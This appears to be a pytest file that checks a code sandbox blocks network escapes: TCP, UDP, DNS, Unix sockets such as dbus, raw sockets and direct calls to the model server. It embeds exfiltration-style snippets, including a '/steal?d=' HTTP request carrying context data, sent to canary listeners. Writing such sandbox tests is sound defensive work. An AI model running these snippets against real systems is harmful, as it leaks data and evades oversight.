"""Hostile code against the network: TCP, UDP, DNS, Unix sockets, the model server itself."""

from __future__ import annotations

from typing import Any

from tests.engine.sandbox.hostile.conftest import Canaries
from tests.engine.sandbox.hostile.test_hostile_files import TRY, blocked


def test_tcp_connect_to_a_listener(attack: Any, canaries: Canaries) -> None:
    host, port = canaries.tcp.address
    code = TRY + f"""
import socket
attempt('tcp', lambda: socket.create_connection(({host!r}, {port}), timeout=2))
attempt('tcp6', lambda: socket.create_connection(('::1', {port}), timeout=2))
"""
    blocked(attack(code).shown, "tcp", "tcp6")


def test_udp_datagram_to_a_listener(attack: Any, canaries: Canaries) -> None:
    host, port = canaries.udp.address
    code = TRY + f"""
import socket
def send():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b'exfiltrated', ({host!r}, {port}))
attempt('udp', send)
"""
    blocked(attack(code).shown, "udp")


def test_dns_lookup_reaches_no_resolver(attack: Any) -> None:
    code = TRY + """
import socket
attempt('getaddrinfo', lambda: socket.getaddrinfo('exfil.canary.example', 53))
attempt('gethostbyname', lambda: socket.gethostbyname('exfil.canary.example'))
attempt('resolver-socket', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
"""
    blocked(attack(code).shown, "getaddrinfo", "gethostbyname", "resolver-socket")


def test_unix_socket_like_an_ssh_agent_or_dbus(attack: Any, canaries: Canaries) -> None:
    path, abstract = canaries.unix.address, canaries.abstract.address
    code = TRY + f"""
import socket
def connect(address):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(address)
attempt('unix-path', lambda: connect({path!r}))
attempt('unix-abstract', lambda: connect({abstract!r}))
attempt('dbus', lambda: connect('/run/dbus/system_bus_socket'))
"""
    blocked(attack(code).shown, "unix-path", "unix-abstract", "dbus")


def test_every_socket_family_and_socketpair(attack: Any) -> None:
    code = TRY + """
import socket
for name in ('AF_INET', 'AF_INET6', 'AF_UNIX', 'AF_NETLINK', 'AF_PACKET', 'AF_VSOCK'):
    family = getattr(socket, name, None)
    if family is not None:
        attempt(name, lambda: socket.socket(family, socket.SOCK_RAW if name in
                ('AF_NETLINK', 'AF_PACKET') else socket.SOCK_STREAM))
attempt('socketpair', socket.socketpair)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print('raw socket syscall', libc.syscall(41, 2, 1, 0), ctypes.get_errno())
"""
    shown = attack(code).shown
    blocked(shown, "AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK", "AF_PACKET", "socketpair")
    assert "raw socket syscall -1 1" in shown  # EPERM


def test_calling_the_model_server_directly(attack: Any) -> None:
    # The model may know (or guess) the API's address: it must not reach it to spend the
    # key or leak data around the engine's budget.
    def code(base_url: str) -> str:
        return TRY + f"""
import json, urllib.request
body = json.dumps({{'model': 'fake-sub', 'messages': [{{'role': 'user', 'content': 'hi'}}]}})
attempt('models', lambda: urllib.request.urlopen('{base_url}/models', timeout=2))
attempt('chat', lambda: urllib.request.urlopen(urllib.request.Request(
    '{base_url}/chat/completions', body.encode(), {{'Content-Type': 'application/json'}}),
    timeout=2))
"""

    run = attack(code)
    blocked(run.shown, "models", "chat")
    assert len(run.requests) == 2  # the two scripted model turns, nothing from the REPL


def test_http_to_a_listener_with_urllib(attack: Any, canaries: Canaries) -> None:
    host, port = canaries.tcp.address
    code = TRY + f"""
import urllib.request
attempt('urlopen', lambda: urllib.request.urlopen('http://{host}:{port}/steal?d=' + context[:50],
                                                  timeout=2))
"""
    blocked(attack(code).shown, "urlopen")
